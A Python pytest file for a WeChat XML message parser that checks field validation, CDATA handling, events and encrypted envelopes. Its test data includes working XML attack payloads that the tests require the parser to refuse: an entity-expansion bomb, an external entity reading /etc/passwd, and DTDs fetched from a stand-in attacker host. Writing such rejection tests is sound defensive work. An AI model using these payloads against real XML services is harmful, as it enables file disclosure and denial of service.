import pytest

from adapters.wechat.xml import MalformedXml, build_xml, parse_encrypted_envelope, parse_inbound
from simulators.wechat_push import event, message, text_message

TEXT = (
    b"<xml><ToUserName><![CDATA[gh_10f6c3c3ac5a]]></ToUserName>\n"
    b"<FromUserName><![CDATA[oyORnuP8q7ou2gfYjqLzSIWZf0rs]]></FromUserName>\n"
    b"<CreateTime>1409735668</CreateTime>\n"
    b"<MsgType><![CDATA[text]]></MsgType>\n"
    b"<Content><![CDATA[abcdteT]]></Content>\n"
    b"<MsgId>6054768590064713728</MsgId>\n"
    b"</xml>"
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&lol3;</Content></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<xml/>"""

BARE_DOCTYPE = b"""<!DOCTYPE xml><xml><ToUserName>a</ToUserName><FromUserName>b</FromUserName>
<CreateTime>1</CreateTime><MsgType>text</MsgType></xml>"""

EXTERNAL_DTD = b"""<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>"""


def test_malformed_xml_is_a_value_error():
    assert issubclass(MalformedXml, ValueError)


def test_parses_wechat_sample_text_message():
    msg = parse_inbound(TEXT)
    assert msg.to_user == "gh_10f6c3c3ac5a"
    assert msg.from_user == "oyORnuP8q7ou2gfYjqLzSIWZf0rs"
    assert msg.create_time == 1409735668
    assert msg.msg_type == "text"
    assert msg.msg_id == "6054768590064713728"
    assert msg.content == "abcdteT"
    assert msg.event is None
    assert msg.fields["Content"] == "abcdteT"
    assert msg.dedup_key == "msg:6054768590064713728"


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, BARE_DOCTYPE, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused(hostile):
    with pytest.raises(MalformedXml):
        parse_inbound(hostile)
    with pytest.raises(MalformedXml):
        parse_encrypted_envelope(hostile)


@pytest.mark.parametrize("missing", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_each_missing_common_field_is_named(missing):
    fields = {"ToUserName": "gh_1", "FromUserName": "o1", "CreateTime": 1, "MsgType": "text", "Content": "x"}
    del fields[missing]
    with pytest.raises(MalformedXml, match=missing):
        parse_inbound(build_xml(fields))


def test_empty_common_field_counts_as_missing():
    with pytest.raises(MalformedXml, match="FromUserName"):
        parse_inbound(build_xml({"ToUserName": "gh", "FromUserName": " ", "CreateTime": 1, "MsgType": "text"}))


@pytest.mark.parametrize("value", ["soon", "-5", "1.5", "١٢٣", "9" * 13])
def test_create_time_must_be_whole_seconds(value):
    with pytest.raises(MalformedXml, match="CreateTime"):
        parse_inbound(build_xml({"ToUserName": "gh", "FromUserName": "o", "CreateTime": value, "MsgType": "text"}))


@pytest.mark.parametrize("body", [b"", b"   ", b"not xml", b"<xml>", b"<root><a>1</a></root>", b"\xff\xfe<x"])
def test_garbage_is_malformed(body):
    with pytest.raises(MalformedXml):
        parse_inbound(body)


def test_wrong_root_is_named():
    with pytest.raises(MalformedXml, match="<xml>"):
        parse_inbound(b"<message><ToUserName>a</ToUserName></message>")


def test_duplicate_elements_are_refused():
    with pytest.raises(MalformedXml, match="twice"):
        parse_inbound(TEXT.replace(b"</xml>", b"<FromUserName>someone-else</FromUserName></xml>"))


def test_unknown_message_type_is_accepted_with_all_fields():
    msg = parse_inbound(message("o1", "hologram", create_time=5, msg_id=42, Depth="3", Colour="blue"))
    assert msg.msg_type == "hologram"
    assert msg.msg_id == "42"
    assert msg.fields["Depth"] == "3" and msg.fields["Colour"] == "blue"


def test_chinese_text_and_cdata_edge_cases_survive():
    content = "你好，世界 ]]> <b>&amp; 'quoted' \"double\" \n second line  "
    msg = parse_inbound(text_message("o用户", content, create_time=1700000000, msg_id=1))
    assert msg.content == content  # verbatim, spaces and all
    assert msg.from_user == "o用户"


def test_whitespace_around_cdata_in_structural_fields_is_ignored():
    # WeChat's own demo has "<MsgType>  <![CDATA[video]]></MsgType>".
    xml = (b"<xml><ToUserName><![CDATA[gh]]></ToUserName><FromUserName><![CDATA[o]]></FromUserName>"
           b"<CreateTime> 12 </CreateTime><MsgType>  <![CDATA[video]]></MsgType></xml>")
    msg = parse_inbound(xml)
    assert msg.msg_type == "video" and msg.create_time == 12


def test_events():
    msg = parse_inbound(event("o1", "subscribe", create_time=7, event_key="qrscene_emp_42", ticket="gQabc"))
    assert msg.msg_type == "event"
    assert msg.event == "subscribe"
    assert msg.event_key == "qrscene_emp_42"
    assert msg.msg_id is None
    assert msg.fields["Ticket"] == "gQabc"
    assert msg.dedup_key == "evt:o1:7:subscribe"


def test_nested_event_blocks_are_flattened():
    xml = event("o1", "scancode_waitmsg", create_time=7, event_key="k",
                ScanCodeInfo={"ScanType": "qrcode", "ScanResult": "https://example.com"})
    msg = parse_inbound(xml)
    assert msg.fields["ScanCodeInfo.ScanResult"] == "https://example.com"
    assert msg.fields["ScanCodeInfo"] == ""


def test_event_field_only_for_events():
    msg = parse_inbound(build_xml({"ToUserName": "gh", "FromUserName": "o", "CreateTime": 1, "MsgType": "text",
                                   "Event": "subscribe"}))
    assert msg.event is None


def test_encrypted_envelope():
    body = b"<xml><ToUserName><![CDATA[gh_1]]></ToUserName><Encrypt><![CDATA[abc+/=]]></Encrypt></xml>"
    assert parse_encrypted_envelope(body) == "abc+/="


@pytest.mark.parametrize("body", [
    b"<xml><ToUserName>gh</ToUserName></xml>",
    b"<xml><Encrypt></Encrypt></xml>",
    b"<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>",
    b"<other><Encrypt>a</Encrypt></other>",
    b"",
])
def test_bad_envelopes(body):
    with pytest.raises(MalformedXml):
        parse_encrypted_envelope(body)


def test_build_xml_refuses_what_xml_cannot_carry():
    with pytest.raises(ValueError):
        build_xml({"bad name": "x"})
    with pytest.raises(ValueError):
        build_xml({"Content": "nul \x00 byte"})
    with pytest.raises(ValueError):
        build_xml({"A": True})


def test_build_xml_numbers_are_bare_strings_are_cdata():
    assert build_xml({"CreateTime": 12, "MsgType": "text"}) == (
        b"<xml><CreateTime>12</CreateTime><MsgType><![CDATA[text]]></MsgType></xml>")
